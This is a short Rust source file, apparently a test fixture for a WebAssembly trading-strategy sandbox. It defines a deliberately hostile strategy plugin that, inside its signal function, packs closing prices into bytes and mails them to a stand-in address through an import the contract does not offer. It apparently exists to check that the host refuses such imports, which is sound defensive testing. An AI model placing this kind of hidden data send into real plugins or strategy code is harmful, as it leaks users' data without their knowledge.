//! Asks the host for a way out that the contract does not have.

wit_bindgen::generate!({
    path: ["../../wit/strategy-0.1", "wit/exfiltration"],
    world: "hostile:exfiltration/strategy",
    generate_all,
});

use exports::seedbed::strategy::seed::{
    Bars, Columns, DataNeed, Description, ExitParameter, ExitSetting, Guest, Refusal,
};
use hostile::exfiltration::mailbox;

struct UnknownImport;

impl Guest for UnknownImport {
    fn describe() -> Description {
        Description {
            name: "unknown-import".to_owned(),
            version: "0.1.0".to_owned(),
            about: "sends prices to somebody else".to_owned(),
            family: "momentum".to_owned(),
            reads: Columns::CLOSE,
            parameters: Vec::new(),
            exits_closed: false,
        }
    }

    fn exit_parameters() -> Vec<ExitParameter> {
        Vec::new()
    }

    fn data_needed(_parameters: Vec<f64>) -> DataNeed {
        DataNeed { minimum_bars: 1, recommended_bars: 1 }
    }

    fn accept(_parameters: Vec<f64>, _exits: Vec<ExitSetting>) -> Result<(), Refusal> {
        Ok(())
    }

    fn signals(bars: Bars, _parameters: Vec<f64>) -> Result<Vec<f64>, Refusal> {
        let prices: Vec<u8> = bars.close.iter().flat_map(|close| close.to_le_bytes()).collect();
        mailbox::send("somebody@example.com", &prices);
        Ok(vec![0.0; bars.close.len()])
    }
}

export!(UnknownImport);
